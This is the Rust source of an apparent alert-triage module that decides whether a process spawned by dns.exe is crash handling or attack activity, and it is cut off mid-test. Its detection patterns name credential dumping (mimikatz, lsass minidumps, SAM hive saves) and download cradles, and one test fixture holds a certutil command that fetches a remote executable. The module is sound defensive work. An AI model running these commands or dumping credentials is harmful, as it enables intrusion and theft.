//! The investigation guide of a process-start alert, answered from the
//! evidence (`quarry.triage`): the questions Elastic's guides ask of an
//! unexpected child process — the SIGRed rule "Unusual Child Process of
//! dns.exe" is the worked case, the answers are generic — each answered
//! with the events that support it, and a one-line hint (escalate,
//! consistent with crash handling, or unresolved because telemetry is
//! missing) that names the answers that drove it.
//!
//! - *what* was started: a crash handler (`WerFault.exe -u -p <pid of the
//!   parent>`) or a shell, script host, downloader, service tool,
//!   discovery tool or LOLBin;
//! - *identity*: hash, `pe.original_file_name` against the name, signer
//!   and trust where the source records them, a user-writable or unusual
//!   path, first seen on this host;
//! - *intent* of the command line: discovery, download, script execution,
//!   service change, credential access, persistence;
//! - *lineage fit*: is the parent's own parent what that service normally
//!   has (`services.exe` for `dns.exe`);
//! - *follow-on*: descendants, file, registry, network and DNS activity of
//!   the process and its descendants, and the telemetry the host lacks;
//! - *scope*: the same executable or command line on other hosts.

use crate::{Investigation, summary};
use quarry_event::Event;
use quarry_event::basename;
use quarry_lineage::{HostLineage, Process};
use regex::RegexSet;
use rustc_hash::{FxHashMap, FxHashSet};
use serde_json::{Value as J, json};
use std::sync::OnceLock;

/// Supporting events listed per answer, at most.
const MAX_EVIDENCE: usize = 5;

/// What kind of program a process is, by its file name (lower-case).
const KINDS: &[(&str, &[&str])] = &[
    (
        "crash handler",
        &[
            "werfault.exe",
            "werfaultsecure.exe",
            "wermgr.exe",
            "dwwin.exe",
            "drwtsn32.exe",
        ],
    ),
    (
        "shell",
        &[
            "cmd.exe",
            "powershell.exe",
            "pwsh.exe",
            "powershell_ise.exe",
            "bash.exe",
            "wsl.exe",
            "sh.exe",
        ],
    ),
    (
        "script host",
        &[
            "wscript.exe",
            "cscript.exe",
            "mshta.exe",
            "python.exe",
            "pythonw.exe",
            "perl.exe",
            "java.exe",
            "javaw.exe",
            "node.exe",
        ],
    ),
    (
        "downloader",
        &[
            "certutil.exe",
            "bitsadmin.exe",
            "curl.exe",
            "wget.exe",
            "ftp.exe",
            "tftp.exe",
            "expand.exe",
            "esentutl.exe",
        ],
    ),
    (
        "service tool",
        &[
            "sc.exe",
            "net.exe",
            "net1.exe",
            "schtasks.exe",
            "at.exe",
            "reg.exe",
            "psexec.exe",
            "psexec64.exe",
            "psexesvc.exe",
            "wmic.exe",
            "winrs.exe",
            "taskkill.exe",
        ],
    ),
    (
        "discovery tool",
        &[
            "whoami.exe",
            "nltest.exe",
            "ipconfig.exe",
            "systeminfo.exe",
            "tasklist.exe",
            "quser.exe",
            "query.exe",
            "netstat.exe",
            "arp.exe",
            "hostname.exe",
            "nslookup.exe",
            "dsquery.exe",
            "setspn.exe",
            "route.exe",
            "nbtstat.exe",
            "klist.exe",
            "adfind.exe",
        ],
    ),
    (
        "LOLBin",
        &[
            "rundll32.exe",
            "regsvr32.exe",
            "msbuild.exe",
            "installutil.exe",
            "regasm.exe",
            "regsvcs.exe",
            "msiexec.exe",
            "odbcconf.exe",
            "forfiles.exe",
            "cmstp.exe",
            "msxsl.exe",
            "control.exe",
            "pcalua.exe",
            "hh.exe",
            "mavinject.exe",
            "bginfo.exe",
            "ieexec.exe",
            "dnscmd.exe",
            "ntdsutil.exe",
            "vssadmin.exe",
            "wevtutil.exe",
            "bcdedit.exe",
            "procdump.exe",
            "procdump64.exe",
        ],
    ),
];

/// Kinds of child that by themselves call for escalation.
const LIVE_EXECUTION: &[&str] = &[
    "shell",
    "script host",
    "downloader",
    "service tool",
    "discovery tool",
    "LOLBin",
];

/// Command-line intents, each a set of case-insensitive patterns.
const INTENTS: &[(&str, &[&str])] = &[
    (
        "discovery",
        &[
            r"\bwhoami\b",
            r"\bnet1?(\.exe)?\s+(user|group|localgroup|view|accounts|share|session)\b",
            r"\bnltest\b",
            r"\bipconfig\b",
            r"\bsysteminfo\b",
            r"\btasklist\b",
            r"\bquser\b|\bquery\s+user\b",
            r"\bdsquery\b|\badfind\b",
            r"\bsetspn(\.exe)?\s+-[lqx]",
            r"\bnetstat\b|\barp\s+-a\b",
            r"get-ad(user|computer|group|domain)",
        ],
    ),
    (
        "download",
        &[
            r"\b(https?|ftp)://",
            r"invoke-webrequest|\biwr\b|\bwget\b|\bcurl\b",
            r"downloadstring|downloadfile|downloaddata|net\.webclient|start-bitstransfer",
            r"-urlcache|/transfer\b",
        ],
    ),
    (
        "script execution",
        &[
            r"\s-e(nc|ncodedcommand|c)?\s+[a-z0-9+/=]{16,}",
            r"\biex\b|invoke-expression|frombase64string",
            r"\.(ps1|vbs|vbe|js|jse|hta|wsf|bat|cmd)\b",
            r"javascript:|vbscript:",
            r"-nop\b|-noprofile\b|-w(indowstyle)?\s+hidden|-exec(utionpolicy)?\s+bypass",
        ],
    ),
    (
        "service change",
        &[
            r"\bsc(\.exe)?\s+(create|config|start|stop|delete|failure)\b",
            r"new-service|set-service|stop-service|start-service",
            r"\bnet1?(\.exe)?\s+(start|stop)\b",
        ],
    ),
    (
        "credential access",
        &[
            r"lsass",
            r"mimikatz|sekurlsa|kerberos::|lsadump",
            r"comsvcs(\.dll)?.*minidump",
            r"\bprocdump",
            r"ntds\.dit|\bntdsutil\b",
            r"\breg(\.exe)?\s+save\s+hklm\\(sam|system|security)",
            r"vssadmin(\.exe)?\s+create\s+shadow",
        ],
    ),
    (
        "persistence",
        &[
            r"schtasks(\.exe)?\s+/create",
            r"\\currentversion\\(run|runonce)\b",
            r"new-scheduledtask|register-scheduledtask",
            r"\\start menu\\programs\\startup",
            r"\bsc(\.exe)?\s+create\b",
            r"\bwmic\b.*\bcreate\b",
        ],
    ),
];

/// The parent a service's executable normally has (lower-case names).
const EXPECTED_PARENT: &[(&str, &str)] = &[
    ("dns.exe", "services.exe"),
    ("svchost.exe", "services.exe"),
    ("spoolsv.exe", "services.exe"),
    ("lsass.exe", "wininit.exe"),
    ("services.exe", "wininit.exe"),
    ("wininit.exe", "smss.exe"),
    ("winlogon.exe", "smss.exe"),
    ("w3wp.exe", "svchost.exe"),
    ("sqlservr.exe", "services.exe"),
    ("msexchangetransport.exe", "services.exe"),
];

/// Path parts where any user can write: a system program has no business
/// running from them.
const USER_WRITABLE: &[&str] = &[
    "\\users\\",
    "\\programdata\\",
    "\\windows\\temp\\",
    "\\appdata\\",
    "\\temp\\",
    "\\$recycle.bin\\",
    "\\perflogs\\",
    "\\windows\\tasks\\",
    "\\windows\\tracing\\",
    "/tmp/",
    "/var/tmp/",
    "/dev/shm/",
];

/// Where a crash handler writes its reports: file activity there is the
/// crash being handled, not follow-on activity.
const CRASH_REPORT_PATHS: &[&str] = &["\\microsoft\\windows\\wer\\", "\\crashdumps\\"];

fn intents() -> &'static [(&'static str, RegexSet)] {
    static SETS: OnceLock<Vec<(&'static str, RegexSet)>> = OnceLock::new();
    SETS.get_or_init(|| {
        INTENTS
            .iter()
            .filter_map(|(name, pats)| {
                let pats: Vec<String> = pats.iter().map(|p| format!("(?i){p}")).collect();
                // the patterns are constants; a bad one is a bug caught by the tests
                RegexSet::new(&pats).ok().map(|s| (*name, s))
            })
            .collect()
    })
}

/// The kind of program `name` (a file name) is, if quarry knows it.
pub fn kind_of(name: &str) -> Option<&'static str> {
    let n = name.to_ascii_lowercase();
    KINDS
        .iter()
        .find(|(_, names)| names.contains(&n.as_str()))
        .map(|(k, _)| *k)
}

/// The intents a command line expresses, with the patterns that matched.
pub fn intents_of(cmd: &str) -> Vec<&'static str> {
    intents()
        .iter()
        .filter(|(_, set)| set.is_match(cmd))
        .map(|(n, _)| *n)
        .collect()
}

/// `WerFault.exe … -p <pid>`: the pid the crash reporter reports on.
fn crash_target_pid(cmd: &str) -> Option<i64> {
    let mut words = cmd.split_whitespace();
    while let Some(w) = words.next() {
        if w.eq_ignore_ascii_case("-p") || w.eq_ignore_ascii_case("/p") {
            return words.next().and_then(|p| p.parse().ok());
        }
    }
    None
}

/// A boolean as sources write it: `true`, or the text `"true"`.
fn as_bool(v: &quarry_event::Value) -> Option<bool> {
    match v {
        quarry_event::Value::Bool(b) => Some(*b),
        other => other
            .to_text()
            .and_then(|t| match t.to_ascii_lowercase().as_str() {
                "true" => Some(true),
                "false" => Some(false),
                _ => None,
            }),
    }
}

/// The scope answer of a triage: the other hosts (sorted) that started
/// the same executable, and that ran the same command line. Public so that
/// a run split by host (`quarry hunt --spark`) can answer it from every
/// host's executables and command lines after the hunt.
pub fn scope(same_exe: &[String], same_cmd: &[String]) -> J {
    let scope_answer = match (same_exe.len(), same_cmd.len()) {
        (0, 0) => "not seen on other hosts in the evidence".to_string(),
        (e, 0) => format!(
            "the same executable started on {e} other host{}: {}",
            if e == 1 { "" } else { "s" },
            shown(same_exe)
        ),
        (_, c) => format!(
            "the same command line ran on {c} other host{}: {}",
            if c == 1 { "" } else { "s" },
            shown(same_cmd)
        ),
    };
    json!({"answer": scope_answer, "same_executable_hosts": same_exe.len(),
           "same_command_line_hosts": same_cmd.len(),
                       "hosts": same_exe.iter().chain(same_cmd.iter()).take(MAX_EVIDENCE).collect::<FxHashSet<_>>().into_iter().collect::<std::collections::BTreeSet<_>>()})
}

fn lower(s: &str) -> String {
    s.to_ascii_lowercase()
}

/// Where scope looks: per executable and per command line (lower-case),
/// the hosts that started it and how often.
#[derive(Debug, Default)]
pub(crate) struct ScopeIndex {
    by_executable: FxHashMap<String, FxHashMap<String, usize>>,
    by_command_line: FxHashMap<String, FxHashMap<String, usize>>,
}

impl ScopeIndex {
    pub(crate) fn build(inv: &Investigation) -> Self {
        let mut ix = ScopeIndex::default();
        for (host, lin) in &inv.lineage.hosts {
            for p in (0..lin.len()).filter_map(|i| lin.process(i)) {
                if let Some(e) = &p.executable {
                    *ix.by_executable
                        .entry(lower(e))
                        .or_default()
                        .entry(host.clone())
                        .or_default() += 1;
                }
                if let Some(c) = &p.command_line {
                    *ix.by_command_line
                        .entry(lower(c.trim()))
                        .or_default()
                        .entry(host.clone())
                        .or_default() += 1;
                }
            }
        }
        ix
    }

    fn other_hosts(
        map: &FxHashMap<String, FxHashMap<String, usize>>,
        key: &str,
        host: &str,
    ) -> Vec<String> {
        let mut v: Vec<String> = map
            .get(key)
            .map(|m| m.keys().filter(|h| *h != host).cloned().collect())
            .unwrap_or_default();
        v.sort();
        v
    }
}

/// Is this alert's event a process start (what the triage answers for)?
pub fn is_process_start(ev: &Event) -> bool {
    ev.has_value_id(quarry_event::fid!("event.category"), "process")
        && ev.has_value_id(quarry_event::fid!("event.type"), "start")
}

/// The triage of the alert whose event is `ev`, on host `host`; `None`
/// when the event is not a process start.
pub fn triage(ev: &Event, host: &str, inv: &Investigation) -> Option<J> {
    if !is_process_start(ev) {
        return None;
    }
    let lin = inv.lineage.host(host);
    let (index, _) = lin
        .map(|h| h.resolve_index(ev))
        .unwrap_or((None, quarry_lineage::Link::Unlinked));
    let process = index.and_then(|i| lin.and_then(|h| h.process(i)));
    let origin = ev.origin.to_string();
    let host_name = ev.get_str("host.name").unwrap_or(host).to_string();

    let exe = ev
        .get_str("process.executable")
        .map(str::to_string)
        .or_else(|| process.and_then(|p| p.executable.clone()));
    let name = ev
        .get_str("process.name")
        .map(str::to_string)
        .or_else(|| exe.as_deref().map(|e| basename(e).to_string()))
        .unwrap_or_else(|| "?".into());
    let cmd = ev
        .get_str("process.command_line")
        .map(str::to_string)
        .or_else(|| process.and_then(|p| p.command_line.clone()))
        .unwrap_or_default();
    let parent_pid = ev
        .get_i64("process.parent.pid")
        .or_else(|| process.and_then(|p| p.parent_pid));
    let parent_name = ev
        .get_str("process.parent.name")
        .map(str::to_string)
        .or_else(|| {
            ev.get_str("process.parent.executable")
                .map(|e| basename(e).to_string())
        })
        .or_else(|| process.and_then(|p| p.parent_name.clone()))
        .or_else(|| {
            let parent = lin.zip(process).and_then(|(h, p)| h.parent_of(p))?;
            parent.name.clone().or_else(|| {
                parent
                    .executable
                    .as_deref()
                    .map(|e| basename(e).to_string())
            })
        });

    let mut drivers: Vec<&'static str> = Vec::new();
    let mut driver_text: Vec<String> = Vec::new();

    // what
    let kind = kind_of(&name);
    let crash_pid = (kind == Some("crash handler"))
        .then(|| crash_target_pid(&cmd))
        .flatten();
    let crash_of_parent = crash_pid.is_some() && crash_pid == parent_pid;
    let what_answer = match (kind, crash_pid) {
        (Some("crash handler"), Some(p)) if crash_of_parent => {
            format!("{name} reports a crash of pid {p}, its parent — a crash handler")
        }
        (Some("crash handler"), Some(p)) => format!(
            "{name} reports a crash of pid {p}, not its parent ({}) — a crash handler for another process",
            parent_pid
                .map(|x| x.to_string())
                .unwrap_or_else(|| "pid not recorded".into())
        ),
        (Some("crash handler"), None) => {
            format!("{name} is a crash reporter, but its command line names no crashed pid (-p)")
        }
        (Some(k), _) => format!("{name} is a {k}: live execution, not crash handling"),
        (None, _) => {
            format!("{name} is not a known crash handler, shell, script host, downloader or LOLBin")
        }
    };
    if kind.is_some_and(|k| LIVE_EXECUTION.contains(&k)) {
        drivers.push("what");
        driver_text.push(format!("what: {} ({name})", kind.unwrap_or_default()));
    }
    let what = json!({
        "answer": what_answer,
        "kind": kind.unwrap_or("other"),
        "name": name,
        "executable": exe,
        "command_line": cmd,
        "parent": parent_name,
        "parent_pid": parent_pid,
        "crash_of_parent": crash_of_parent,
        "events": [origin],
    });

    // identity
    let mut concerns: Vec<String> = Vec::new();
    let hash = ["sha256", "sha1", "md5", "imphash"].iter().find_map(|h| {
        ev.get_str(&format!("process.hash.{h}"))
            .map(|v| json!({*h: v}))
    });
    let original = ev.get_str("process.pe.original_file_name");
    if let Some(o) = original
        && !o.eq_ignore_ascii_case(&name)
        // "CMD.EXE" for cmd.exe, "PowerShell.EXE.MUI"… compare the stem
        && !lower(o).trim_end_matches(".mui").eq(&lower(&name))
    {
        concerns.push(format!("renamed: original file name {o} ≠ {name}"));
    }
    let signer = ev.get_str("process.code_signature.subject_name");
    let trusted = ev.get("process.code_signature.trusted").and_then(as_bool);
    let signed = ev.get("process.code_signature.exists").and_then(as_bool);
    if signed == Some(false) {
        concerns.push("unsigned".into());
    } else if trusted == Some(false) {
        concerns.push(format!(
            "signature not trusted ({})",
            signer.unwrap_or("signer unknown")
        ));
    }
    let path_class = exe.as_deref().map(|e| {
        let l = lower(e);
        if USER_WRITABLE.iter().any(|p| l.contains(p)) {
            "user-writable"
        } else if l.contains("\\windows\\") || l.contains("\\program files") || l.starts_with('/') {
            "system"
        } else {
            "unusual"
        }
    });
    match path_class {
        Some("user-writable") => concerns.push(format!(
            "runs from a user-writable path ({})",
            exe.as_deref().unwrap_or_default()
        )),
        Some("unusual") => concerns.push(format!(
            "runs from an unusual path ({})",
            exe.as_deref().unwrap_or_default()
        )),
        _ => {}
    }
    let first_seen = match (lin, process, exe.as_deref()) {
        (Some(h), Some(p), Some(e)) => first_seen(h, p, e),
        _ => None,
    };
    if let Some((true, _)) = first_seen
        && kind != Some("crash handler")
        && path_class != Some("system")
    {
        concerns.push("first seen on this host in the evidence".into());
    }
    let mut id_parts: Vec<String> = Vec::new();
    match &hash {
        Some(h) => id_parts.push(format!(
            "hash {}",
            h.as_object()
                .and_then(|m| m.iter().next())
                .map(|(k, v)| format!("{k} {}", v.as_str().unwrap_or_default()))
                .unwrap_or_default()
        )),
        None => id_parts.push("no hash recorded".into()),
    }
    match original {
        Some(o) => id_parts.push(format!("original file name {o}")),
        None => id_parts.push("no PE original file name recorded".into()),
    }
    match (signer, trusted) {
        (Some(s), Some(t)) => id_parts.push(format!(
            "signed by {s} ({})",
            if t { "trusted" } else { "not trusted" }
        )),
        (Some(s), None) => id_parts.push(format!("signed by {s}")),
        _ => id_parts.push("no signer recorded".into()),
    }
    if let Some(c) = path_class {
        id_parts.push(format!("{c} path"));
    }
    match first_seen {
        Some((true, n)) => id_parts.push(format!(
            "first start of this executable on the host in the evidence ({n} in all)"
        )),
        Some((false, n)) => id_parts.push(format!(
            "started {n} times on the host in the evidence, earlier too"
        )),
        None => {}
    }
    if !concerns.is_empty() {
        drivers.push("identity");
        driver_text.push(format!("identity: {}", concerns.join("; ")));
    }
    let identity = json!({
        "answer": if concerns.is_empty() { format!("no identity concern: {}", id_parts.join(", ")) }
                  else { format!("{}: {}", concerns.join("; "), id_parts.join(", ")) },
        "concerns": concerns,
        "hash": hash,
        "original_file_name": original,
        "signer": signer,
        "trusted": trusted,
        "path": path_class,
        "first_seen_on_host": first_seen.map(|(f, _)| f),
        "events": [origin],
    });

    // intent
    let found = intents_of(&cmd);
    let intent_answer = if cmd.is_empty() {
        "no command line recorded: intent unresolved".to_string()
    } else if found.is_empty() && crash_pid.is_some() {
        "crash reporting arguments (-u -p): fault handling".to_string()
    } else if found.is_empty() {
        "no discovery, download, script, service, credential or persistence pattern in the command line".to_string()
    } else {
        format!("the command line expresses {}", found.join(", "))
    };
    if !found.is_empty() {
        drivers.push("intent");
        driver_text.push(format!("intent: {}", found.join(", ")));
    }
    let intent = json!({"answer": intent_answer, "intents": found, "events": [origin]});

    // lineage fit
    let grandparent = match (lin, process) {
        (Some(h), Some(p)) => h.parent_of(p).map(|pp| (pp, h.parent_of(pp))),
        _ => None,
    };
    let expected = parent_name
        .as_deref()
        .and_then(|p| {
            EXPECTED_PARENT
                .iter()
                .find(|(s, _)| s.eq_ignore_ascii_case(p))
        })
        .map(|(_, e)| *e);
    let gp_name = grandparent
        .and_then(|(_, gp)| gp)
        .map(|g| {
            g.name
                .clone()
                .or_else(|| g.executable.as_deref().map(|e| basename(e).to_string()))
                .unwrap_or_default()
        })
        .or_else(|| {
            grandparent.and_then(|(pp, _)| {
                pp.parent_name.clone().or_else(|| {
                    pp.parent_executable
                        .as_deref()
                        .map(|e| basename(e).to_string())
                })
            })
        });
    let parent_label = parent_name.clone().unwrap_or_else(|| "the parent".into());
    let (fit, lineage_answer) = match (expected, gp_name.as_deref()) {
        (Some(e), Some(g)) if g.eq_ignore_ascii_case(e) => (
            "expected",
            format!("{parent_label} was started by {g}, as a service is"),
        ),
        (Some(e), Some(g)) => (
            "unexpected",
            format!("{parent_label} was started by {g}, where {e} is expected"),
        ),
        (Some(e), None) => (
            "unknown",
            format!(
                "{parent_label}'s own start is not in the evidence: whether {e} started it is unresolved"
            ),
        ),
        (None, Some(g)) => (
            "unknown",
            format!(
                "{parent_label} was started by {g}; quarry has no expectation for {parent_label}"
            ),
        ),
        (None, None) => (
            "unknown",
            format!("{parent_label}'s own start is not in the evidence"),
        ),
    };
    if fit == "unexpected" {
        drivers.push("lineage");
        driver_text.push(format!("lineage: {lineage_answer}"));
    }
    let lineage = json!({"answer": lineage_answer, "fit": fit, "parent": parent_name,
                         "grandparent": gp_name, "expected": expected});

    // follow-on
    let descendants: Vec<&Process> = match (lin, process) {
        (Some(h), Some(p)) => h.descendants(p),
        _ => Vec::new(),
    };
    let activity: Vec<&Event> = index.map(|i| inv.activity(host, i)).unwrap_or_default();
    let mut by_cat: std::collections::BTreeMap<&str, usize> = Default::default();
    let mut crash_files = 0usize;
    let mut follow: Vec<&Event> = Vec::new();
    for e in &activity {
        let is_crash_file = crash_pid.is_some()
            && e.has_value_id(quarry_event::fid!("event.category"), "file")
            && e.get_str("file.path")
                .is_some_and(|p| CRASH_REPORT_PATHS.iter().any(|c| lower(p).contains(c)));
        if is_crash_file {
            crash_files += 1;
            continue;
        }
        for c in ["file", "registry", "network", "authentication"] {
            if e.has_value_id(quarry_event::fid!("event.category"), c) {
                *by_cat.entry(c).or_default() += 1;
            }
        }
        if e.get("dns.question.name").is_some() {
            *by_cat.entry("dns").or_default() += 1;
        }
        follow.push(e);
    }
    let missing = inv.missing_telemetry(host);
    let mut seen_parts: Vec<String> = Vec::new();
    if !descendants.is_empty() {
        let names: Vec<String> = descendants
            .iter()
            .take(MAX_EVIDENCE)
            .map(|d| {
                d.name
                    .clone()
                    .or_else(|| d.executable.as_deref().map(|e| basename(e).to_string()))
                    .unwrap_or_else(|| "?".into())
            })
            .collect();
        seen_parts.push(format!(
            "{} descendant{} ({})",
            descendants.len(),
            if descendants.len() == 1 { "" } else { "s" },
            names.join(", ")
        ));
    }
    for (c, n) in &by_cat {
        seen_parts.push(format!("{n} {c}"));
    }
    let follow_answer = if process.is_none() {
        "the process's start is not in the evidence: its follow-on activity cannot be attributed"
            .to_string()
    } else if seen_parts.is_empty() && missing.is_empty() {
        let mut s = "no descendants and no file, registry, network or DNS activity after the start"
            .to_string();
        if crash_files > 0 {
            s.push_str(&format!(
                " (besides {crash_files} crash report file events)"
            ));
        }
        s
    } else if seen_parts.is_empty() {
        format!(
            "none seen, but there is no {} telemetry on {host_name}: unresolved, not benign",
            missing.join(", ")
        )
    } else {
        let mut s = seen_parts.join(", ");
        if !missing.is_empty() {
            s.push_str(&format!(
                "; no {} telemetry on {host_name}",
                missing.join(", ")
            ));
        }
        s
    };
    if !seen_parts.is_empty() {
        drivers.push("follow_on");
        driver_text.push(format!("follow-on: {}", seen_parts.join(", ")));
    }
    let mut follow_events: Vec<J> = descendants
        .iter()
        .take(MAX_EVIDENCE)
        .map(|d| json!({"process.name": d.name, "process.pid": d.pid, "process.command_line": d.command_line}))
        .collect();
    follow_events.extend(follow.iter().take(MAX_EVIDENCE).map(|e| summary(e)));
    let follow_on = json!({
        "answer": follow_answer,
        "descendants": descendants.len(),
        "by_category": by_cat,
        "crash_report_files": crash_files,
        "no_telemetry": missing,
        "attributed": process.is_some(),
        "events": follow_events,
    });

    // scope
    let ix = inv.scope.get_or_init(|| ScopeIndex::build(inv));
    let same_exe = exe
        .as_deref()
        .map(|e| ScopeIndex::other_hosts(&ix.by_executable, &lower(e), host))
        .unwrap_or_default();
    let same_cmd = if cmd.is_empty() {
        Vec::new()
    } else {
        ScopeIndex::other_hosts(&ix.by_command_line, &lower(cmd.trim()), host)
    };
    let scope = scope(&same_exe, &same_cmd);

    // the hint
    let no_follow = process.is_some() && seen_parts.is_empty();
    let (verdict, hint) = if !drivers.is_empty() {
        let mut h = format!("escalate — {}", driver_text.join("; "));
        if !missing.is_empty() {
            h.push_str(&format!(
                " (no {} telemetry on {host_name}: the rest is unresolved)",
                missing.join(", ")
            ));
        }
        ("escalate", h)
    } else if crash_of_parent && no_follow && missing.is_empty() {
        drivers.extend(["what", "follow_on"]);
        (
            "consistent with crash handling",
            format!(
                "consistent with crash handling — what: {name} -p {} reports on its parent; follow-on: none",
                crash_pid.unwrap_or_default()
            ),
        )
    } else if !missing.is_empty() {
        drivers.push("follow_on");
        (
            "unresolved",
            format!(
                "unresolved — no {} telemetry on {host_name}: follow-on activity cannot be ruled out ({})",
                missing.join(", "),
                if crash_of_parent {
                    "what: a crash handler for its parent"
                } else {
                    "what: not a recognised crash-handling child"
                }
            ),
        )
    } else if process.is_none() {
        drivers.push("follow_on");
        ("unresolved", "unresolved — the process's start is not in the evidence: follow-on cannot be attributed".to_string())
    } else {
        drivers.push("what");
        (
            "unresolved",
            format!(
                "unresolved — what: {name} is not a recognised crash-handling or service-support child; no follow-on seen"
            ),
        )
    };
    Some(json!({
        "what": what,
        "identity": identity,
        "intent": intent,
        "lineage": lineage,
        "follow_on": follow_on,
        "scope": scope,
        "verdict": verdict,
        "hint": hint,
        "drivers": drivers,
    }))
}

fn shown(hosts: &[String]) -> String {
    let mut s = hosts
        .iter()
        .take(MAX_EVIDENCE)
        .cloned()
        .collect::<Vec<_>>()
        .join(", ");
    if hosts.len() > MAX_EVIDENCE {
        s.push_str(&format!(", … {} more", hosts.len() - MAX_EVIDENCE));
    }
    s
}

/// Whether `p` is the earliest start of `exe` on the host, and how many
/// starts of it the host has.
fn first_seen(h: &HostLineage, p: &Process, exe: &str) -> Option<(bool, usize)> {
    let start = p.start?;
    let (n, earliest) = h.starts_of(exe);
    Some((earliest.is_none_or(|e| e >= start), n))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{Packed, Retention};
    use quarry_event::Origin;

    const S: i64 = 1_000_000_000;

    fn ev(host: &str, fields: &[(&str, &str)], t: i64) -> Event {
        let mut e = Event::new(Origin::default());
        e.set("host.name", host);
        for (k, v) in fields {
            e.set(k, *v);
        }
        e.set_timestamp(t * S);
        e
    }

    // a process start is these eight facts; a struct would only rename them
    #[allow(clippy::too_many_arguments)]
    fn start(
        host: &str,
        guid: &str,
        pid: i64,
        exe: &str,
        cmd: &str,
        parent: &str,
        ppid: i64,
        t: i64,
    ) -> Event {
        let mut e = ev(
            host,
            &[
                ("process.entity_id", guid),
                ("process.executable", exe),
                ("process.name", basename(exe)),
                ("process.command_line", cmd),
                ("process.parent.entity_id", parent),
            ],
            t,
        );
        e.set("event.category", vec!["process"]);
        e.set("event.type", vec!["start"]);
        e.set("process.pid", pid);
        e.set("process.parent.pid", ppid);
        e
    }

    fn activity(host: &str, guid: &str, cat: &str, field: &str, value: &str, t: i64) -> Event {
        let mut e = ev(host, &[("process.entity_id", guid), (field, value)], t);
        e.set("event.category", vec![cat]);
        e
    }

    fn investigation(evs: &[Event]) -> Investigation {
        let r = Retention::for_rules([]);
        let packed: Vec<(String, Packed)> = evs.iter().filter_map(|e| r.pack(e, true)).collect();
        Investigation::from_packed(packed)
    }

    const DNS: &str = "C:\\Windows\\System32\\dns.exe";

    /// services.exe → dns.exe, and a network event of another process so
    /// the host has network, file and registry telemetry.
    fn dc(host: &str) -> Vec<Event> {
        vec![
            start(
                host,
                "S",
                600,
                "C:\\Windows\\System32\\services.exe",
                "services.exe",
                "",
                500,
                1,
            ),
            start(
                host,
                "D",
                2000,
                DNS,
                "C:\\Windows\\system32\\dns.exe",
                "S",
                600,
                2,
            ),
            activity(host, "D", "network", "destination.ip", "10.0.0.1", 3),
            activity(
                host,
                "D",
                "file",
                "file.path",
                "C:\\Windows\\System32\\dns\\dns.log",
                3,
            ),
            activity(host, "D", "registry", "registry.path", "HKLM\\SYSTEM\\x", 3),
        ]
    }

    #[test]
    fn a_werfault_child_reporting_its_parent_without_follow_on_is_crash_handling() {
        let mut evs = dc("DC1");
        let wer = start(
            "DC1",
            "W",
            3000,
            "C:\\Windows\\System32\\WerFault.exe",
            "C:\\Windows\\system32\\WerFault.exe -u -p 2000 -s 412",
            "D",
            2000,
            10,
        );
        evs.push(wer.clone());
        evs.push(activity(
            "DC1",
            "W",
            "file",
            "file.path",
            "C:\\ProgramData\\Microsoft\\Windows\\WER\\ReportQueue\\x\\Report.wer",
            11,
        ));
        let inv = investigation(&evs);
        let t = triage(&wer, "dc1", &inv).expect("a process start");
        assert_eq!(t["verdict"], "consistent with crash handling", "{t:#}");
        assert_eq!(t["what"]["kind"], "crash handler");
        assert_eq!(t["what"]["crash_of_parent"], true);
        assert_eq!(t["lineage"]["fit"], "expected", "{t:#}");
        assert_eq!(t["lineage"]["grandparent"], "services.exe");
        assert_eq!(t["follow_on"]["crash_report_files"], 1);
        assert_eq!(t["drivers"], json!(["what", "follow_on"]));
    }

    #[test]
    fn a_werfault_child_reporting_another_pid_is_not_crash_handling_of_the_parent() {
        let mut evs = dc("DC1");
        let wer = start(
            "DC1",
            "W",
            3000,
            "C:\\Windows\\System32\\WerFault.exe",
            "WerFault.exe -u -p 4444",
            "D",
            2000,
            10,
        );
        evs.push(wer.clone());
        let t = triage(&wer, "dc1", &investigation(&evs)).expect("start");
        assert_eq!(t["what"]["crash_of_parent"], false);
        assert_eq!(t["verdict"], "unresolved", "{t:#}");
    }

    #[test]
    fn a_shell_with_descendants_and_network_activity_escalates() {
        let mut evs = dc("DC1");
        let cmd = start(
            "DC1",
            "C",
            3000,
            "C:\\Windows\\System32\\cmd.exe",
            "cmd.exe /c whoami /all & certutil -urlcache -f http://203.0.113.5/a.exe a.exe",
            "D",
            2000,
            10,
        );
        evs.push(cmd.clone());
        evs.push(start(
            "DC1",
            "Wh",
            3010,
            "C:\\Windows\\System32\\whoami.exe",
            "whoami /all",
            "C",
            3000,
            11,
        ));
        evs.push(activity(
            "DC1",
            "C",
            "network",
            "destination.ip",
            "203.0.113.5",
            12,
        ));
        // the same command on another DC
        evs.extend(dc("DC2"));
        evs.push(start(
            "DC2",
            "C2",
            3000,
            "C:\\Windows\\System32\\cmd.exe",
            "cmd.exe /c whoami /all & certutil -urlcache -f http://203.0.113.5/a.exe a.exe",
            "D",
            2000,
            10,
        ));
        let inv = investigation(&evs);
        let t = triage(&cmd, "dc1", &inv).expect("start");
        assert_eq!(t["verdict"], "escalate", "{t:#}");
        assert_eq!(t["what"]["kind"], "shell");
        assert_eq!(t["intent"]["intents"], json!(["discovery", "download"]));
        assert_eq!(t["follow_on"]["descendants"], 1);
        assert_eq!(t["follow_on"]["by_category"]["network"], 1);
        assert_eq!(t["drivers"], json!(["what", "intent", "follow_on"]));
        assert_eq!(t["scope"]["same_command_line_hosts"], 1, "{t:#}");
        assert!(
            t["hint"]
                .as_str()
                .unwrap()
                .starts_with("escalate — what: shell (cmd.exe)")
        );
    }

    #[test]
    fn an_unremarkable_child_on_a_host_without_network_telemetry_is_unresolved() {
        // process telemetry only (Security 4688 auditing)
        let evs = vec![
            start("DC1", "D", 2000, DNS, "dns.exe", "", 600, 2),
            start(
                "DC1",
                "X",
                3000,
                "C:\\Windows\\System32\\backgroundTaskHost.exe",
                "backgroundTaskHost.exe -ServerName:x",
                "D",
                2000,
                10,
            ),
        ];
        let inv = investigation(&evs);
        let t = triage(&evs[1], "dc1", &inv).expect("start");
        assert_eq!(t["verdict"], "unresolved", "{t:#}");
        assert!(
            t["hint"]
                .as_str()
                .unwrap()
                .contains("no file, registry, network telemetry on DC1"),
            "{t:#}"
        );
        assert_eq!(t["lineage"]["fit"], "unknown");
    }

    #[test]
    fn identity_flags_renamed_user_writable_and_unsigned_binaries() {
        let mut evs = dc("DC1");
        let mut x = start(
            "DC1",
            "X",
            3000,
            "C:\\Users\\Public\\svc.exe",
            "svc.exe",
            "D",
            2000,
            10,
        );
